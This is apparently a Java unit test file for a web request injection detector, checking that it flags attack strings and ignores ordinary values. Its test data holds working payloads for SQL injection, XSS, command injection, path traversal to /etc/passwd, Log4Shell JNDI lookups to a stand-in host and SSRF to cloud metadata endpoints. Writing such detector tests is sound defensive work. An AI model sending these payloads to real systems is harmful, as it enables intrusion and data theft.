package dev.vigil.guard.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class InjectionDetectorTest {
    final InjectionDetector detector = new InjectionDetector();

    static RequestHead get(String path, String query, Map<String, String> headers) {
        return new RequestHead("api", "GET", path, query, "10.0.0.1", HeaderLookup.of(headers));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "q=1%27%20OR%20%271%27%3D%271|SQL",
                "id=1+OR+1%3D1--|SQL",
                "name=x%27+UNION+SELECT+password+FROM+users--|SQL",
                "id=1%3B+DROP+TABLE+users|SQL",
                "id=1%27+AND+SLEEP(5)--|SQL",
                "user=admin%27--|SQL",
                "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E|XSS",
                "q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E|XSS",
                "next=javascript:alert(document.cookie)|XSS",
                "host=example.com%3Bcat+%2Fetc%2Fpasswd|COMMAND",
                "ip=127.0.0.1%7C%7Cwhoami|COMMAND",
                "cmd=%24(id)|COMMAND",
                "file=..%2F..%2F..%2Fetc%2Fpasswd|PATH_TRAVERSAL",
                "file=%252e%252e%252fsecret|PATH_TRAVERSAL",
                "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D|JNDI",
                "x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.test%7D|JNDI",
                "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F|SSRF",
                "url=http://metadata.google.internal/computeMetadata/v1/|SSRF",
                "callback=http://127.0.0.1:8080/admin|SSRF",
                "u=http://2852039166/latest|SSRF",
                "u=file:///etc/hosts|PATH_TRAVERSAL",
            })
    void flagsInjectionInQueryValues(String query, Detection.InjectionKind kind) {
        List<Detection> found = detector.inspect(get("/search", query, Map.of()));
        assertThat(found).singleElement().isInstanceOfSatisfying(Detection.Injection.class, i -> assertThat(i.kind())
                .isEqualTo(kind));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name=O%27Reilly",
                "street=Union+Street+select+committee",
                "q=rock+and+roll",
                "q=this+or+that",
                "title=Tom+%26+Jerry",
                "expr=a+%3C+b+and+c+%3E+d",
                "html=%3Cb%3Ebold%3C%2Fb%3E",
                "topic=javascript+is+fun",
                "file=report..final.pdf",
                "path=%2Fdocs%2Fv1.2%2Fintro",
                "tpl=Hello+%24%7Bname%7D",
                "url=https%3A%2F%2Fexample.com%2Fcallback%3Fa%3D1",
                "email=alice%40example.com",
                "id=550e8400-e29b-41d4-a716-446655440000",
                "q=it%27s+fine+--+really",
                "note=ping+me+later%3B+thanks",
                "sort=-created_at,name",
            })
    void leavesOrdinaryValuesAlone(String query) {
        assertThat(detector.inspect(get("/search", query, Map.of()))).isEmpty();
    }

    @Test
    void flagsTraversalInThePathAndJndiInHeaders() {
        assertThat(detector.inspect(get("/files/..%2f..%2fetc/passwd", "", Map.of())))
                .singleElement()
                .extracting(Detection::type)
                .isEqualTo("injection.path_traversal");
        assertThat(detector.inspect(get("/", "", Map.of("user-agent", "${jndi:ldap://x.test/a}"))))
                .singleElement()
                .extracting(Detection::type)
                .isEqualTo("injection.jndi");
        assertThat(detector.inspect(get("/files/v1.2/report.pdf", "", Map.of("user-agent", "Mozilla/5.0 (X11)"))))
                .isEmpty();
    }

    @Test
    void findsJndiLookupsInAnyHeaderAndScansEchoedHeadersInAnyCase() {
        assertThat(detector.inspect(get("/", "", Map.of("X-Custom-Trace", "${jndi:ldap://127.0.0.1:1389/a}"))))
                .singleElement()
                .satisfies(d -> assertThat(((Detection.Injection) d).location()).isEqualTo("header:x-custom-trace"))
                .extracting(Detection::type)
                .isEqualTo("injection.jndi");
        assertThat(detector.inspect(get("/", "", Map.of("User-Agent", "<script>alert(1)</script>"))))
                .singleElement()
                .extracting(Detection::type)
                .isEqualTo("injection.xss");
        // Only the echoed headers get every signature; elsewhere ordinary punctuation is not an attack.
        assertThat(detector.inspect(get("/", "", Map.of("X-Note", "a' OR 'b", "Accept", "text/html, */*;q=0.8"))))
                .isEmpty();
    }

    @Test
    void flagsInjectionInJsonAndFormBodiesButNotInOrdinaryOnes() {
        byte[] attack = "{\"name\":\"x' UNION SELECT card FROM cards--\",\"n\":1}".getBytes(StandardCharsets.UTF_8);
        assertThat(detector.inspectBody(attack, attack.length, "application/json"))
                .singleElement()
                .extracting(Detection::type)
                .isEqualTo("injection.sql");
        byte[] safe =
                "{\"name\":\"O'Reilly\",\"bio\":\"I like union select committees\"}".getBytes(StandardCharsets.UTF_8);
        assertThat(detector.inspectBody(safe, safe.length, "application/json")).isEmpty();
        byte[] form = "user=a&url=http%3A%2F%2F169.254.169.254%2F".getBytes(StandardCharsets.UTF_8);
        assertThat(detector.inspectBody(form, form.length, "application/x-www-form-urlencoded"))
                .singleElement()
                .extracting(Detection::type)
                .isEqualTo("injection.ssrf");
    }

    @Test
    void evidenceIsShortAndMasksLongSecrets() {
        List<Detection> found = detector.inspect(get(
                "/s",
                "q=%27+OR+%271%27%3D%271+AND+token%3DeyJhbGciOiJIUzI1NiJ9abcdefghijklmnopqrstuvwxyz0123456789",
                Map.of()));
        assertThat(found).singleElement().satisfies(d -> {
            assertThat(d.evidence()).doesNotContain("eyJhbGciOiJIUzI1NiJ9abcdefghijklmnop");
            assertThat(d.evidence().length()).isLessThan(120);
        });
    }
}
